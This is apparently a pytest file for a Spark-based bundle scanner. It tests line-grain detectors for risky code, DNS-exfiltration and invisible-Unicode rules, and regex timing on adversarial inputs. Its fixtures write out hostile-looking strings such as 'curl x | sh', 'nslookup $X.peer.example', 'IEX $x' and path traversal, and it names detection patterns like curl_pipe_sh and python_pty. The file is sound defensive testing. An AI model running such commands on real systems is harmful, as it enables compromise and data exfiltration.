"""Line-grain detectors: positives, near misses, gates, quirks."""

import pytest

from bundlescan.functions import rules
from bundlescan.operators import lines
from conftest import text_df


def hits(spark, path, text):
    return {(r.pattern_name, r.line, r.match) for r in lines.detector_hits(text_df(spark, [(path, text)])).collect()}


def names(spark, path, text):
    return {h[0] for h in hits(spark, path, text)}


def test_counts():
    assert len(rules.DETECTORS) == 71 and len(rules.CATEGORIES) == 16
    assert sum(d.gate is None for d in rules.DETECTORS) == 33


@pytest.mark.parametrize("path,text,expected", [
    ("a.py", "x = eval(user_input)", {"eval_call"}),
    ("a.md", "x = eval(user_input)", set()),                 # gate: prose
    ("a.py", "evaluate(x)", set()),                          # word boundary
    ("a.py", "re.compile(x)", set()),                        # lookbehind: not compile_call
    ("a.py", "code = compile(src)", {"compile_call"}),
    ("a.js", "const g = new Function('x')", {"js_function_constructor"}),
    ("a.py", "subprocess.run(cmd, shell=True)", {"shell_true"}),
    ("a.txt", "npx some-tool", {"npx_exec"}),
    ("a.txt", "npx --yes t", set()),
    ("a.txt", "npx  --yes t", {"npx_exec"}),                 # two spaces: backtracking fires
    ("a.sh", "sudo apt update", {"sudo_usage"}),
    ("a.sh", "echo x; sudo rm y", {"sudo_usage"}),
    ("a.txt", "chmod 644 x", set()),
    ("a.txt", "chmod 755 x", {"chmod_dangerous"}),
    ("a.txt", "this is plausible", {"telemetry_tracking"}),  # substring rule, as the reference
    ("a.md", "ſecretly upload it", {"covert_action"}),       # Unicode case folding (long s)
    ("a.txt", "after ３ messages", {"counter_trigger"}),      # Unicode digit
    ("a.ps1", "IEX $x", {"powershell_exec"}),
    ("a.cjs", "fs.symlinkSync(a)", {"fs_symlink"}),         # in the gate (but see test_sources: never read)
    ("a.jsx", "fs.symlinkSync(a)", set()),
])
def test_detectors(spark, path, text, expected):
    assert names(spark, path, text) == expected


def test_first_match_per_line_is_whole(spark):
    line = "timestamp > " + "1" * 200
    h = hits(spark, "a.txt", line)
    (name, ln, match), = h
    assert name == "timestamp_comparison" and ln == 1 and match == line


def test_line_numbers_and_trailing_newline(spark):
    h = hits(spark, "a.txt", "ok\n\ncurl x | sh\n")
    assert {(n, ln) for n, ln, _ in h} == {("curl_pipe_sh", 3)}


def test_invisible_unicode_positions(spark):
    df = text_df(spark, [("a.md", "﻿ab\nx​y⁠\n")])
    got = sorted((r.line, r.char_code, r.position) for r in lines.invisible_unicode(df).collect())
    assert got == [(1, "U+FEFF", 0), (2, "U+200B", 1), (2, "U+2060", 3)]


def test_dns_exfil(spark):
    df = text_df(spark, [("a.sh", "ok\nnslookup $X.peer.example\nDIG x $y")])
    got = sorted((r.line, r.match) for r in lines.dns_exfil(df).collect())
    assert got == [(2, "nslookup $"), (3, "DIG x $")]


def test_gate_is_superset(spark):
    """Same hits with and without the whole-file gate on tricky texts."""
    texts = [("a.py", "x\nsudo ls\n  npx\n"), ("b.sh", "a;sudo b\ncurl\nx | bash"), ("c.txt", "../../..\n%2E%2E%2F")]
    df = text_df(spark, texts)
    a = sorted(map(tuple, lines.detector_hits(df).collect()))
    b = sorted(map(tuple, lines.detector_hits(df, whole_file_gate=False).collect()))
    assert a == b and a


def test_adversarial_inputs_finish(spark):
    import time
    long_host = "host " * 8000                       # 40 KB line without '$': the DNS rule is skipped
    long_pct = "%41" * 100_000                        # one long encoded run: possessive loop, no stack overflow
    df = text_df(spark, [("a.sh", long_host), ("b.md", long_pct)])
    t0 = time.time()
    assert lines.dns_exfil(df).count() == 0
    from bundlescan.operators import indicators as IND
    enc = IND.indicator_rows(IND.file_indicators(df), keys=["encoded_urls"]).collect()
    assert len(enc) == 1 and len(enc[0].value) == 300_000
    assert time.time() - t0 < 60


LONG = {"getattr_system": "getattr(a, ", "shell_true": "subprocess.run(", "base64_exec": "base64.b64decode atob ", "hex_decode": "codecs.decode ",
        "file_write": "open(a ", "python_pty": "python ", "curl_pipe_sh": "curl | ", "wget_pipe_sh": "wget | ",
        "requests_get_exec": "requests.get( ", "date_comparison": "if Date.now ", "datetime_comparison": "if datetime.now ",
        "timestamp_comparison": "timestamp > ", "system_path_write": "ln a "}


def test_long_lines_take_linear_time(spark):
    """A line of a million characters, all starts of a rule and no end, for every rule with a gap."""
    import time
    rules_ = {d.name: d for d in rules.DETECTORS}
    assert {d.name for d in rules.DETECTORS if ".*" in d.pattern} == set(LONG)
    for name, start in LONG.items():
        d = rules_[name]
        df = text_df(spark, [("a" + (d.gate or [".txt"])[0], start * (1_000_000 // len(start))),
                             ("b" + (d.gate or [".txt"])[0], (start + ").text ") * (1_000_000 // (len(start) + 7)))])
        t0 = time.time()
        lines.detector_hits(df, [d], whole_file_gate=False).count()
        assert time.time() - t0 < 20, name
    df = text_df(spark, [("a.sh", "host a " * 150_000)])
    t0 = time.time()
    assert lines.dns_exfil(df).count() == 0 and time.time() - t0 < 20
